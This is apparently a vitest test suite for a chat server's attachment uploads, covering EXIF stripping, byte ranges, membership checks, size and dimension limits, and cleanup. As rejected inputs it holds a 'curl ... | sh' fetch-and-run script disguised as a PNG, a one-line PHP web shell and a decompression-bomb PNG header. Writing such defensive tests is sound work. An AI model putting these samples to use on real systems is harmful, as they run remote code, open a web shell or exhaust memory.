import { createHash, randomBytes } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { afterEach, describe, expect, it, onTestFinished, type TestContext } from 'vitest';
import type { ParleyClient } from '../client/index.ts';
import type { Message } from '../protocol.ts';
import type { ParleyServer } from '../server.ts';
import { createTestDatabase, pgAvailable } from '../store/test/pg.ts';
import { hasCommand, requires } from './env.ts';
import { singleRedis, type RedisProcess } from './cluster-env.ts';
import { TokenAuthority } from '../edge/auth.ts';
import { connect, spawnServer, tempDir, testServer, TEST_SECRET, until } from './helpers.ts';

let server: ParleyServer;
const clients: ParleyClient[] = [];
async function user(name: string): Promise<ParleyClient> {
  const c = await connect(server, name);
  clients.push(c);
  return c;
}

let dropDb: (() => Promise<void>) | undefined;
afterEach(async () => {
  await Promise.all(clients.splice(0).map((c) => c.close()));
  await server?.close();
  await dropDb?.();
  dropDb = undefined;
});

type StoreKind = 'sqlite' | 'postgres';

/** A node on the given store: attachments are files under the data dir, or PostgreSQL tables. */
async function start(ctx: TestContext, kind: StoreKind, overrides: Parameters<typeof testServer>[0] = {}): Promise<ParleyServer> {
  if (kind === 'sqlite') return (server = await testServer({ store: 'sqlite', ...overrides }));
  requires(ctx, 'PostgreSQL at 127.0.0.1:5432', await pgAvailable());
  const db = await createTestDatabase();
  dropDb = db.drop;
  return (server = await testServer({ store: db.url, ...overrides }));
}

async function call(who: string, method: string, route: string, init: { body?: Buffer | string; headers?: Record<string, string> } = {}): Promise<Response> {
  const token = await server.auth.mint(who, 600);
  return fetch(`${server.httpUrl}/api/v1${route}`, { method, headers: { authorization: `Bearer ${token}`, ...init.headers }, body: init.body });
}

async function upload(who: string, chat: string, bytes: Buffer, name?: string, type = 'application/octet-stream'): Promise<{ status: number; json: any }> {
  const res = await call(who, 'POST', `/chats/${chat}/attachments${name ? `?name=${encodeURIComponent(name)}` : ''}`, { body: bytes, headers: { 'content-type': type } });
  return { status: res.status, json: await res.json() };
}

async function room(owner: string, members: string[]): Promise<string> {
  const res = await call(owner, 'POST', '/chats', { body: JSON.stringify({ name: 'photos', members }), headers: { 'content-type': 'application/json' } });
  return ((await res.json()) as { chat: string }).chat;
}

/** A JPEG with EXIF camera and GPS position tags. */
function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 640, height: 480, channels: 3, background: { r: 200, g: 50, b: 50 } } })
    .withExif({ IFD0: { Make: 'ParleyCam', ImageDescription: 'at-home' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2976/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 17/1 4000/100' } })
    .jpeg()
    .toBuffer();
}

/** A PNG chunk with its CRC. */
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([len, body, crc]);
}

/** A well-formed PNG header declaring width x height, with a few bytes of pixel data: a decompression bomb's shape. */
function pngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', zlib.deflateSync(Buffer.alloc(1024))), chunk('IEND', Buffer.alloc(0))]);
}

/** The value of one series of the node's metrics, 0 when absent. */
async function metric(series: string): Promise<number> {
  const line = (await server.ops.metrics.appText()).split('\n').find((l) => l.startsWith(`${series} `));
  return line ? Number(line.slice(series.length + 1)) : 0;
}

/** Every file under dir whose bytes contain `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  const out: string[] = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true, recursive: true })) {
    const p = path.join(e.parentPath, e.name);
    if (e.isFile() && fs.readFileSync(p).includes(Buffer.from(needle))) out.push(path.relative(dir, p));
  }
  return out;
}

/** Content files under the attachments folder (temporary ones included); none with PostgreSQL. */
function blobFiles(): string[] {
  const dir = path.join(server.config.dataDir, 'attachments', 'blobs');
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => e.name);
}

describe.each<StoreKind>(['sqlite', 'postgres'])('attachments on %s', (kind) => {
  describe('upload and download', () => {
    it('stores a JPEG without its EXIF and GPS tags, with a thumbnail, served inline with its type and byte ranges', async (ctx) => {
      await start(ctx, kind);
      const chat = await room('alice', ['bob']);
      const original = await jpegWithGps();
      expect((await sharp(original).metadata()).exif).toBeDefined();

      // The client's Content-Type is ignored: the bytes say JPEG.
      const up = await upload('alice', chat, original, 'Holiday é.jpg', 'text/plain');
      expect(up.status).toBe(201);
      expect(up.json).toEqual({
        id: expect.stringMatching(/^[A-Za-z0-9_-]{16}$/), chat, from: 'alice', type: 'image/jpeg', name: 'Holiday é.jpg', size: expect.any(Number),
        sha256: expect.stringMatching(/^[0-9a-f]{64}$/), width: 640, height: 480, thumbnail: true, createdAt: expect.any(Number),
      });
      const id = up.json.id as string;

      const res = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('image/jpeg');
      expect(res.headers.get('content-disposition')).toBe('inline; filename="Holiday _.jpg"; filename*=UTF-8\'\'Holiday%20%C3%A9.jpg');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('accept-ranges')).toBe('bytes');
      const stored = Buffer.from(await res.arrayBuffer());
      expect(stored.length).toBe(up.json.size);
      const meta = await sharp(stored).metadata();
      expect([meta.format, meta.width, meta.height, meta.exif, meta.xmp, meta.iptc]).toEqual(['jpeg', 640, 480, undefined, undefined, undefined]);
      expect(stored.includes('ParleyCam')).toBe(false);
      expect(stored.includes('at-home')).toBe(false);

      const thumb = await call('bob', 'GET', `/chats/${chat}/attachments/${id}/thumbnail`);
      expect(thumb.status).toBe(200);
      expect(thumb.headers.get('content-type')).toBe('image/webp');
      const t = await sharp(Buffer.from(await thumb.arrayBuffer())).metadata();
      expect([t.format, t.width, t.height]).toEqual(['webp', 320, 240]);

      const part = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range: 'bytes=10-29' } });
      expect(part.status).toBe(206);
      expect(part.headers.get('content-range')).toBe(`bytes 10-29/${stored.length}`);
      expect(Buffer.from(await part.arrayBuffer())).toEqual(stored.subarray(10, 30));
      const tail = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range: 'bytes=-7' } });
      expect(tail.status).toBe(206);
      expect(Buffer.from(await tail.arrayBuffer())).toEqual(stored.subarray(stored.length - 7));
      const open = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range: `bytes=${stored.length - 3}-` } });
      expect(Buffer.from(await open.arrayBuffer())).toEqual(stored.subarray(stored.length - 3));
      for (const range of [`bytes=${stored.length}-`, 'bytes=50-20', 'bytes=-0']) {
        const bad = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range } });
        expect(bad.status, range).toBe(416);
        expect(bad.headers.get('content-range')).toBe(`bytes */${stored.length}`);
        expect(((await bad.json()) as any).error.code).toBe('range_not_satisfiable');
      }

      const info = await call('bob', 'GET', `/chats/${chat}/attachments/${id}/info`);
      expect(await info.json()).toEqual(up.json);

      // Cached copies revalidate by the content's hash; HEAD answers the headers alone.
      const again = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { 'if-none-match': `"${up.json.sha256}"` } });
      expect([again.status, again.headers.get('etag')]).toEqual([304, `"${up.json.sha256}"`]);
      const head = await call('bob', 'HEAD', `/chats/${chat}/attachments/${id}`);
      expect([head.status, head.headers.get('content-length'), head.headers.get('content-type'), (await head.arrayBuffer()).byteLength]).toEqual([200, String(stored.length), 'image/jpeg', 0]);
    });

    it('answers members only: an outsider can neither upload nor download, nor learn the id exists', async (ctx) => {
      await start(ctx, kind);
      const chat = await room('alice', ['bob']);
      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#00f' } }).png().toBuffer();
      const up = await upload('alice', chat, png);
      expect(up.status).toBe(201);
      expect(await upload('mallory', chat, png)).toMatchObject({ status: 403, json: { error: { code: 'not_member' } } });
      for (const leaf of ['', '/thumbnail', '/info']) {
        const res = await call('mallory', 'GET', `/chats/${chat}/attachments/${up.json.id}${leaf}`);
        expect(res.status).toBe(403);
        expect(((await res.json()) as any).error.code).toBe('not_member');
      }
      // Addressed through another chat, the id is not found (it is not that chat's).
      const other = await room('mallory', []);
      const res = await call('mallory', 'GET', `/chats/${other}/attachments/${up.json.id}`);
      expect([res.status, ((await res.json()) as any).error.code]).toEqual([404, 'attachment_not_found']);
      expect(await server.attachments.store.stats()).toEqual({ attachments: 1, contents: 2 });
    });

    it('refuses bad uploads with a stable code each and stores nothing: a script named .png, a truncated PNG, a 30000 x 30000 header, too many bytes, a chat the user left, an empty body', async (ctx) => {
      await start(ctx, kind, { attachmentMaxBytes: 64 * 1024 });
      const chat = await room('alice', ['bob']);
      const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
      expect(await upload('alice', chat, script, 'cat.png', 'image/png')).toMatchObject({ status: 415, json: { error: { code: 'attachment_type' } } });

      const png = await sharp({ create: { width: 120, height: 90, channels: 3, background: '#0a0' } }).png().toBuffer();
      const truncated = png.subarray(0, png.length - 40);
      expect(await upload('alice', chat, truncated, 'cut.png')).toMatchObject({ status: 422, json: { error: { code: 'attachment_invalid' } } });

      // Refused from the header (the details come from the dimension check, not a failed decode).
      expect(await upload('alice', chat, pngDeclaring(30_000, 30_000), 'bomb.png')).toEqual({
        status: 422,
        json: { error: { code: 'attachment_dimensions', message: expect.stringContaining('30000 x 30000'), details: { width: 30_000, height: 30_000, frames: 1, maxPixels: 40_000_000 } } },
      });

      const big = Buffer.concat([png, randomBytes(100 * 1024)]);
      expect(await upload('alice', chat, big, 'big.png')).toMatchObject({ status: 413, json: { error: { code: 'attachment_too_large', details: { maxBytes: 64 * 1024 } } } });

      expect(await upload('alice', chat, Buffer.alloc(0))).toMatchObject({ status: 422, json: { error: { code: 'attachment_invalid' } } });

      const bob = await user('bob');
      await bob.leave(chat);
      expect(await upload('bob', chat, png, 'late.png')).toMatchObject({ status: 403, json: { error: { code: 'not_member' } } });

      expect(await server.attachments.store.stats()).toEqual({ attachments: 0, contents: 0 });
      expect(blobFiles()).toEqual([]);
      for (const [result, n] of [['attachment_type', 1], ['attachment_invalid', 2], ['attachment_dimensions', 1], ['attachment_too_large', 1], ['not_member', 1], ['stored', 0]] as const) {
        expect(await metric(`parley_attachment_uploads_total{result="${result}"}`), result).toBe(n);
      }
      // Counted when each response closes, which may follow the client's read of it by a moment.
      await until(async () => (await metric('parley_rest_requests_total{route="chats.attachments",status="4xx"}')) === 6, 'six refused uploads counted by route');
      // The node still takes a good upload on the same connection pool afterwards.
      expect((await upload('alice', chat, png, 'ok.png')).status).toBe(201);
    });

    it('refuses an upload beyond attachmentMaxUploads in progress with overloaded and Retry-After, and takes it once the first is done', async (ctx) => {
      await start(ctx, kind, { attachmentMaxUploads: 1 });
      const chat = await room('alice', []);
      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#abc' } }).png().toBuffer();
      let finish!: () => void;
      const slow = new ReadableStream<Uint8Array>({
        start(c) {
          c.enqueue(png.subarray(0, 20));
          finish = () => { c.enqueue(png.subarray(20)); c.close(); };
        },
      });
      const token = await server.auth.mint('alice', 600);
      const first = fetch(`${server.httpUrl}/api/v1/chats/${chat}/attachments`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: slow, duplex: 'half' } as RequestInit);
      await until(() => server.attachments.active === 1, 'the first upload to be in progress');
      const second = await call('alice', 'POST', `/chats/${chat}/attachments`, { body: png });
      expect([second.status, second.headers.get('retry-after'), ((await second.json()) as any).error]).toEqual([503, '1', expect.objectContaining({ code: 'overloaded', details: { reason: 'uploads', retryAfterMs: 1000 } })]);
      finish();
      expect((await first).status).toBe(201);
      expect((await upload('alice', chat, png)).status).toBe(201);
      expect((await server.attachments.store.stats()).attachments).toBe(2);
    });

    it('refuses an upload to a 1:1 whose other member blocked the uploader, or that does not exist yet', async (ctx) => {
      await start(ctx, kind);
      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#def' } }).png().toBuffer();
      expect(await upload('alice', 'd:alice:bob', png)).toMatchObject({ status: 403, json: { error: { code: 'not_member' } } });
      await call('alice', 'POST', '/chats', { body: JSON.stringify({ to: 'bob' }), headers: { 'content-type': 'application/json' } });
      expect((await upload('bob', 'd:alice:bob', png)).status).toBe(201);
      expect((await call('alice', 'PUT', '/blocks/bob')).status).toBe(200);
      expect(await upload('bob', 'd:alice:bob', png)).toMatchObject({ status: 403, json: { error: { code: 'blocked' } } });
      expect(await upload('alice', 'd:alice:bob', png)).toMatchObject({ status: 403, json: { error: { code: 'blocked', details: { byYou: true } } } });
      expect((await server.attachments.store.stats()).attachments).toBe(1);
    });

    it('refuses an upload whose body stops arriving with 408 attachment_stalled, frees its slot and stores nothing', async (ctx) => {
      await start(ctx, kind, { attachmentIdleMs: 300, attachmentMaxUploads: 1 });
      const chat = await room('alice', []);
      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fed' } }).png().toBuffer();
      const token = await server.auth.mint('alice', 600);
      // A raw request: the test reads the answer while its body is still open.
      const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = http.request(`${server.httpUrl}/api/v1/chats/${chat}/attachments`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'transfer-encoding': 'chunked' } }, (res) => {
          let body = '';
          res.on('data', (d: Buffer) => (body += d.toString()));
          res.on('end', () => resolve({ status: res.statusCode!, body }));
        });
        req.on('error', reject);
        req.write(png.subarray(0, 30));
      });
      expect(answer.status).toBe(408);
      expect(JSON.parse(answer.body).error).toMatchObject({ code: 'attachment_stalled', details: { idleMs: 300 } });
      expect(server.attachments.active).toBe(0);
      expect((await upload('alice', chat, png)).status).toBe(201);
      expect((await server.attachments.store.stats()).attachments).toBe(1);
    });

    it('accepts another kind only when attachmentExtraTypes names it, and serves it as a download', async (ctx) => {
      await start(ctx, kind, { attachmentExtraTypes: 'pdf' });
      const chat = await room('alice', []);
      const pdf = Buffer.from('%PDF-1.4\n% a tiny document\n%%EOF\n');
      const up = await upload('alice', chat, pdf, 'report.pdf');
      expect(up.json).toMatchObject({ type: 'application/pdf', size: pdf.length, thumbnail: false });
      expect(up.json.width).toBeUndefined();
      const res = await call('alice', 'GET', `/chats/${chat}/attachments/${up.json.id}`);
      expect(res.headers.get('content-type')).toBe('application/pdf');
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="report.pdf"/);
      expect(Buffer.from(await res.arrayBuffer())).toEqual(pdf);
      expect((await call('alice', 'GET', `/chats/${chat}/attachments/${up.json.id}/thumbnail`)).status).toBe(404);
      expect(await upload('alice', chat, Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), randomBytes(64)]), 'a.zip')).toMatchObject({ status: 415, json: { error: { code: 'attachment_type' } } });
    });
  });

  describe('the client package', () => {
    it('uploads, references, downloads whole and by range, and builds a token URL an <img> can load', async (ctx) => {
      await start(ctx, kind);
      const chat = await room('alice', ['bob']);
      const alice = await user('alice');
      const bob = await user('bob');
      const jpeg = await jpegWithGps();
      const info = await alice.upload(chat, jpeg, { name: 'gps.jpg' });
      expect(info).toMatchObject({ chat, from: 'alice', type: 'image/jpeg', name: 'gps.jpg', width: 640, height: 480, thumbnail: true });
      const got: Message[] = [];
      bob.on('message', (m) => got.push(m));
      await alice.send({ chat }, 'from the client', undefined, { attachments: [info.id] });
      await until(() => got.length === 1, 'bob to get the message');
      const [id] = got[0]!.attachments!;
      expect(await bob.attachmentInfo(chat, id!)).toEqual(info);
      const whole = await bob.download(chat, id!);
      expect([whole.status, whole.type, whole.bytes.length]).toEqual([200, 'image/jpeg', info.size]);
      const part = await bob.download(chat, id!, { range: [0, 15] });
      expect([part.status, Buffer.from(part.bytes)]).toEqual([206, Buffer.from(whole.bytes.subarray(0, 16))]);
      const url = await bob.downloadUrl(chat, id!, { thumbnail: true });
      expect(url).toMatch(new RegExp(`^${server.httpUrl}/api/v1/chats/${encodeURIComponent(chat)}/attachments/${id}/thumbnail\\?token=`));
      const thumb = await fetch(url);
      expect([thumb.status, thumb.headers.get('content-type')]).toEqual([200, 'image/webp']);
      const mallory = await user('mallory');
      await expect(mallory.download(chat, id!)).rejects.toMatchObject({ code: 'not_member' });
      await expect(alice.upload(chat, Buffer.from('<?php system($_GET[1]);'), { name: 'x.png' })).rejects.toMatchObject({ code: 'attachment_type' });
    });
  });

  describe('messages with attachments', () => {
    it('delivers a message referencing an upload with its id, live, in history and over REST', async (ctx) => {
      await start(ctx, kind);
      const chat = await room('alice', ['bob']);
      const alice = await user('alice');
      const bob = await user('bob');
      const got: Message[] = [];
      bob.on('message', (m) => got.push(m));
      const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#f0f' } }).png().toBuffer();
      const a = (await upload('alice', chat, png, 'a.png')).json.id as string;
      const b = (await upload('alice', chat, await jpegWithGps(), 'b.jpg')).json.id as string;
      const ack = await alice.send({ chat }, 'two photos', undefined, { attachments: [a, b] });
      await until(() => got.length === 1, 'bob to get the message');
      expect(got[0]).toMatchObject({ chat, seq: ack.seq, body: 'two photos', attachments: [a, b] });
      expect((await bob.history(chat)).messages[0]!.attachments).toEqual([a, b]);

      const c = (await upload('bob', chat, png, 'c.png')).json.id as string;
      const post = await call('bob', 'POST', `/chats/${chat}/messages`, { body: JSON.stringify({ cmid: 'r1', body: 'mine', attachments: [c] }), headers: { 'content-type': 'application/json' } });
      expect(post.status).toBe(201);
      const page = await call('alice', 'GET', `/chats/${chat}/messages`);
      expect(((await page.json()) as any).messages.map((m: Message) => m.attachments)).toEqual([[a, b], [c]]);
      expect((await bob.chats())[0]!.last?.attachments).toEqual([c]);
    });

    it('refuses a message referencing another chat\'s upload, someone else\'s upload, or an unknown id with attachment_not_found, storing nothing', async (ctx) => {
      await start(ctx, kind);
      const chat = await room('alice', ['bob']);
      const elsewhere = await room('alice', []);
      const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ff0' } }).png().toBuffer();
      const foreign = (await upload('alice', elsewhere, png)).json.id as string;
      const bobs = (await upload('bob', chat, png)).json.id as string;
      const alice = await user('alice');
      for (const id of [foreign, bobs, 'AAAAAAAAAAAAAAAA']) {
        await expect(alice.send({ chat }, 'look', undefined, { attachments: [id] })).rejects.toMatchObject({ code: 'attachment_not_found', details: { attachments: [id] } });
      }
      await expect(alice.send({ chat }, 'look', undefined, { attachments: ['not an id'] })).rejects.toMatchObject({ code: 'bad_field' });
      expect((await alice.history(chat)).messages).toEqual([]);
      // Nothing was claimed: both are still collectable.
      expect((await server.attachments.store.get(foreign))?.referenced).toBe(false);
      expect((await server.attachments.store.get(bobs))?.referenced).toBe(false);
    });
  });

  describe('attachment lifetime', () => {
    it('deletes an ephemeral chat\'s attachments when it lapses: no file under the data dir holds its bytes or name any more', async (ctx) => {
      await start(ctx, kind, { ephemeralMinLifetimeMs: 100, expiryCheckMs: 100, attachmentExtraTypes: 'zip', sqliteSync: 'full' });
      const alice = await user('alice');
      const told: { op: string; chat?: string }[] = [];
      alice.on('event', (f) => told.push(f as { op: string; chat?: string }));
      const eph = await alice.createRoom('gone soon', [], 'invite', { ephemeral: true, lifetimeMs: 3000 });
      const unique = `zq${randomBytes(8).toString('hex')}`;
      const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from(`the code is ${unique}`)]);
      const up = await upload('alice', eph.chat, zip, `${unique}.zip`);
      expect(up.status).toBe(201);
      await alice.send({ chat: eph.chat }, 'see attached', undefined, { attachments: [up.json.id] });
      const dir = path.join(server.config.dataDir, 'attachments');
      if (kind === 'sqlite') expect(filesContaining(dir, unique).length).toBeGreaterThan(0);

      await until(() => told.some((f) => f.op === 'chat.expired' && f.chat === eph.chat), 'the room to expire', 15_000);
      await until(async () => (await server.attachments.store.stats()).attachments === 0, 'the attachments to go');
      expect(await metric('parley_attachments_deleted_total{reason="expired"}')).toBe(1);
      expect(await server.attachments.store.stats()).toEqual({ attachments: 0, contents: 0 });
      expect(filesContaining(server.config.dataDir, unique)).toEqual([]);
    });

    it('deletes the attachments of a chat that is gone although its own deletion missed them (the sweep\'s orphan check)', async (ctx) => {
      await start(ctx, kind, { ephemeralMinLifetimeMs: 100, expiryCheckMs: 0, attachmentSweepMs: 0 });
      const alice = await user('alice');
      const eph = await alice.createRoom('gone', [], 'invite', { ephemeral: true, lifetimeMs: 100 });
      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#321' } }).png().toBuffer();
      const up = (await upload('alice', eph.chat, png)).json;
      await alice.send({ chat: eph.chat }, 'x', undefined, { attachments: [up.id] });
      // The chat's rows go without its attachments, as when the attachment delete failed.
      expect(await server.chat.store.deleteChat(eph.chat)).toEqual(['alice']);
      expect((await server.attachments.store.stats()).attachments).toBe(1);
      expect(await server.attachments.sweep()).toBe(1);
      expect(await metric('parley_attachments_deleted_total{reason="orphaned"}')).toBe(1);
      expect(await server.attachments.store.stats()).toEqual({ attachments: 0, contents: 0 });
    });

    it('collects uploads no message referenced after the grace period, keeps referenced ones, and keeps a shared content while a row names it', async (ctx) => {
      await start(ctx, kind, { attachmentGraceMs: 1000, attachmentSweepMs: 100 });
      const chat = await room('alice', []);
      const alice = await user('alice');
      const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#123' } }).png().toBuffer();
      const kept = (await upload('alice', chat, png, 'kept.png')).json;
      const dropped = (await upload('alice', chat, png, 'dropped.png')).json;
      const other = (await upload('alice', chat, await jpegWithGps(), 'other.jpg')).json;
      // The same bytes are stored once: two rows, one content and one thumbnail.
      expect(dropped.sha256).toBe(kept.sha256);
      expect(await server.attachments.store.stats()).toEqual({ attachments: 3, contents: 4 });
      await alice.send({ chat }, 'keep this one', undefined, { attachments: [kept.id] });

      await until(async () => (await server.attachments.store.stats()).attachments === 1, 'the unreferenced uploads to be collected', 10_000);
      expect(await server.attachments.store.get(dropped.id)).toBeUndefined();
      expect(await server.attachments.store.get(other.id)).toBeUndefined();
      expect(await metric('parley_attachments_deleted_total{reason="unreferenced"}')).toBe(2);
      expect(await metric('parley_attachment_uploads_total{result="stored"}')).toBe(3);
      expect(await server.attachments.store.stats()).toEqual({ attachments: 1, contents: 2 });
      const res = await call('alice', 'GET', `/chats/${chat}/attachments/${kept.id}`);
      expect(res.status).toBe(200);
      expect(createHashHex(Buffer.from(await res.arrayBuffer()))).toBe(kept.sha256);
      expect((await call('alice', 'GET', `/chats/${chat}/attachments/${dropped.id}`)).status).toBe(404);
    });
  });
});

describe('attachments in a cluster (PostgreSQL)', () => {
  it('serves an upload made on one node from another, and a message sent there reaches a member on the first over Redis with its ids', async (ctx) => {
    requires(ctx, 'redis-server', hasCommand('redis-server'));
    const redis = await singleRedis();
    onTestFinished(() => Promise.all(redis.servers.map((r: RedisProcess) => r.kill())).then(() => undefined));
    await start(ctx, 'postgres', { redis: redis.url });
    const other = await testServer({ store: server.config.store, redis: redis.url });
    try {
      const chat = await room('alice', ['bob']);
      const png = await sharp({ create: { width: 24, height: 24, channels: 3, background: '#0c0' } }).png().toBuffer();
      const up = (await upload('alice', chat, png, 'shared.png')).json;
      const token = await other.auth.mint('bob', 600);
      const res = await fetch(`${other.httpUrl}/api/v1/chats/${chat}/attachments/${up.id}`, { headers: { authorization: `Bearer ${token}` } });
      expect([res.status, res.headers.get('etag'), createHashHex(Buffer.from(await res.arrayBuffer()))]).toEqual([200, `"${up.sha256}"`, up.sha256]);
      const bobHere = await user('bob');
      const got: Message[] = [];
      bobHere.on('message', (m) => got.push(m));
      const aliceThere = await connect(other, 'alice');
      clients.push(aliceThere);
      const ack = await aliceThere.send({ chat }, 'sent through the other node', undefined, { attachments: [up.id] });
      await until(() => got.length === 1, 'bob on the first node to get the message');
      expect(got[0]).toMatchObject({ seq: ack.seq, attachments: [up.id] });
    } finally {
      await other.close();
    }
  });
});

describe('parley serve with attachment flags', () => {
  it('loads sharp in the command\'s process, takes the limits from flags, and keeps the files, private, under the data dir across a restart', async () => {
    const dataDir = tempDir();
    const authority = new TokenAuthority(new TextEncoder().encode(TEST_SECRET));
    const token = await authority.mint('alice', 600);
    const args = ['--attachment-max-bytes', '4096', '--attachment-extra-types', 'pdf'];
    let proc = await spawnServer(dataDir, args);
    try {
      const base = `http://127.0.0.1:${proc.port}/api/v1`;
      const post = (route: string, body: Buffer | string, type = 'application/octet-stream') => fetch(`${base}${route}`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': type }, body });
      const { chat } = (await (await post('/chats', JSON.stringify({ name: 'cli' }), 'application/json')).json()) as { chat: string };
      const jpeg = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#468' } }).withExif({ IFD0: { Make: 'ParleyCam' } }).jpeg().toBuffer();
      const up = await post(`/chats/${chat}/attachments?name=a.jpg`, jpeg);
      expect(up.status).toBe(201);
      const info = (await up.json()) as { id: string; size: number };
      expect((await post(`/chats/${chat}/attachments`, Buffer.from('%PDF-1.4 tiny'))).status).toBe(201);
      const big = await post(`/chats/${chat}/attachments`, Buffer.concat([jpeg, Buffer.alloc(5000)]));
      expect([big.status, ((await big.json()) as any).error.code]).toEqual([413, 'attachment_too_large']);
      proc.child.kill('SIGTERM');
      expect(await proc.exited).toBe(0);

      proc = await spawnServer(dataDir, args);
      const res = await fetch(`http://127.0.0.1:${proc.port}/api/v1/chats/${chat}/attachments/${info.id}`, { headers: { authorization: `Bearer ${token}` } });
      const stored = Buffer.from(await res.arrayBuffer());
      expect([res.status, stored.length, stored.includes('ParleyCam')]).toEqual([200, info.size, false]);
      const files = fs.readdirSync(path.join(dataDir, 'attachments', 'blobs'), { recursive: true, withFileTypes: true }).filter((e) => e.isFile());
      // The JPEG, its thumbnail and the PDF, each under its hash, private to the node's user.
      expect(files.map((f) => f.name).every((n) => /^[0-9a-f]{64}$/.test(n))).toBe(true);
      expect(files).toHaveLength(3);
      for (const f of files) expect(fs.statSync(path.join(f.parentPath, f.name)).mode & 0o777).toBe(0o600);
      expect(fs.statSync(path.join(dataDir, 'attachments')).mode & 0o777).toBe(0o700);
    } finally {
      proc.child.kill('SIGTERM');
      await proc.exited;
    }
  }, 60_000);
});

function createHashHex(b: Buffer): string {
  return createHash('sha256').update(b).digest('hex');
}
